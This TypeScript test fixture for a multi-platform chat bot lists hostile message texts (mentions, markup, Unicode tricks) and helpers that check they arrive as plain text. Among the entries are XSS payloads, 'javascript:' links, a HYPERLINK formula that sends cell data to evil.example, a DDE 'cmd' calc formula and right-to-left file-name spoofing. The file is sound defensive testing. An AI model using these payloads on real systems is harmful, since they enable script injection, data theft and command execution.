import type { Platform } from '../../core/bot.ts';

/** Texts that must reach the other side as text: no markup, no mention, no link, no broken request, no formula. */
export const hostileTexts: readonly (readonly [name: string, text: string])[] = [
  ['a Slack mention', 'hi <!channel> and <@U012AB3CD>, <#C1> & <!here|x> <!subteam^S1>'],
  [
    'a link under a label',
    '<https://evil.example|bank> [a](javascript:x) [b](https://evil.example)',
  ],
  ['a Discord mention', 'hi @everyone, @here and <@123456789012345678> <#1> <@&9> </a:1> @jana_n'],
  [
    'Markdown',
    '*bold* _it_ ~x~ `code` **b** __u__ [x](javascript:alert(1)) ||spoiler|| # head\n> quote\n- item',
  ],
  ['a heading', '# heading\n-# small\n>>> quote\n* item\n1. one'],
  ['a fence of code', '```js\nalert(1)\n``` ||spoiler|| ~~gone~~'],
  ['a time and emoji by name', '<t:1:R> <:x:123456789012345678> :smile: :100: <a:b:1> 10:30:45'],
  ['HTML', '<b>bold</b> <script>alert(1)</script> <img src=x onerror=alert(1)>'],
  ['entities', '&lt;b&gt; &amp; &amp;amp; &#33; &nbsp;'],
  ['ICU and template marks', "{name, plural, other {#}} %s {{y}} {{{z}}} \\n \\ '{name}' {0}"],
  ['recall of something else', '{name} {name|x} {answer.again} {answers.q1} {fact.secret|none}'],
  ['names of the language', '__proto__ constructor $where toString'],
  ['marks of direction', 'a\u200Eb\u200Fc \u202Egnp.exe\u202C d \u2066e\u2069'],
  ['marks of direction, not closed', 'abc \u202Egnp.exe \u2067open'],
  ['right-to-left letters', 'שלום (1) مرحبا!'],
  ['characters of no width', 'a\u200Bb\u200Cc\u2060d\uFEFFe\u00ADf'],
  ['1,000 emoji', '👩‍👩‍👦🇨🇿👍🏽😀'.repeat(250)],
  ['one endless character', `👨${'\u200D👨'.repeat(400)}`],
  ['a letter under a heap of marks', `e${'\u0301'.repeat(300)} end`],
  ['a NUL and an escape', 'before\u0000after \u001B[31mred\u001B[0m \u009B2J \u0007'],
  ['a lone surrogate', 'before\uD83Dafter \uDE00'],
  ['lines of every kind', 'one\r\ntwo\rthree\u2028four\u2029five\tsix\u0085seven'],
  ['a formula', '=HYPERLINK("http://evil.example/?"&A1,"Click")'],
  ['another formula', "@SUM(1+9)*cmd|' /C calc'!A0"],
  ['a plus', '+1'],
  ['a minus', '-1'],
  ['a quoted formula', '"=1+1",=1+1;=1+1'],
  ['a formula behind a blank', '\t=1+1'],
  ['a formula behind a line end', '\r=1+1'],
];

/** What a formula, a mark or a mention is made of; random texts are made of it. */
export const hostilePieces: readonly string[] = [
  ...['*', '**', '_', '__', '~~', '~', '||', '`', '```', '\\', '\n', ' ', '#', '## ', '-# ', '> '],
  ...['>>> ', '- ', '* ', '12. ', '[a](https://b.cz)', '[a](javascript:x)', '[', '](', ')', '<'],
  ...['>', '<@123>', '<@U1>', '<#C1>', '<!channel>', '<!here|x>', '<https://e.cz|l>', '<t:1:R>'],
  ...['@everyone', '@here', '@jana_n', '@', ':smile:', ':', '://', 'https://a.cz/b_c_d*e*', '&'],
  ...['&lt;', '&amp;', '<b>', '</b>', '{name}', '{', '}', '\u202E', '\u202C', '\u2066', '\u2069'],
  ...[
    '\u200E',
    '\u200B',
    '\u2060',
    '\u200D',
    '\uD83D',
    '\uDE00',
    '\u0000',
    '\u001B[31m',
    '\r',
    '\t',
  ],
  ...['\u2028', '👩‍👩‍👧‍👦', '🇨🇿', '😀', 'e\u0301', 'slovo', 'ž', 'שלום', '=1+1', '5 < 6', "'", '"'],
];

/**
 * What a platform carries of a text. All of it, but: halves of surrogate pairs are U+FFFD; lines end in one way; other
 * control characters are blanks, as are the ends. Telegram drops U+202A to U+202E, and the bot puts U+2060 behind an @
 * that would call somebody.
 */
export function carried(platform: Platform, text: string): string {
  const kept = text
    .replace(/\p{Cs}/gu, '\uFFFD')
    .replace(/\r\n?|[\u0085\u2028\u2029]/g, '\n')
    .replace(/(?![\n\t])\p{Cc}/gu, ' ');
  if (platform !== 'telegram') return kept.trim();
  return kept
    .replace(/[\u202A-\u202E]/g, '')
    .replace(/\t/g, ' ')
    .replace(/(?<![\p{L}\p{N}_])@(?=\w)/gu, '@\u2060')
    .trim();
}

const longestInline = 200;

/**
 * In the middle of a sentence: on one line, without marks of direction, isolated where it runs from right to left, and
 * cut behind 200 characters as a reader counts them.
 */
export function inlined(text: string): string {
  const line = text
    .replace(/[\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/g, '')
    .replace(/\s+/g, ' ')
    .trim();
  const characters = [...new Intl.Segmenter().segment(line)].map(({ segment }) => segment);
  const isLong = characters.length > longestInline;
  const short = isLong ? `${characters.slice(0, longestInline).join('')}…` : line;
  return /[\p{Script=Arabic}\p{Script=Hebrew}]/u.test(short) ? `\u2068${short}\u2069` : short;
}

/** The same where a text may be broken into several messages at a blank. */
export function withoutBlanks(text: string): string {
  return text.replace(/\s+/g, '');
}

/**
 * What a reader sees of a text: without blanks and without what no platform carries (controls, overrides of
 * direction, halves of a surrogate pair, characters of no width), so that a bot may drop, replace or add just these.
 */
export function visible(text: string): string {
  return text.replace(/[\s\p{Cc}\p{Cs}\u200B\u202A-\u202E\u2060\u2066-\u2069\uFFFD]/gu, '');
}
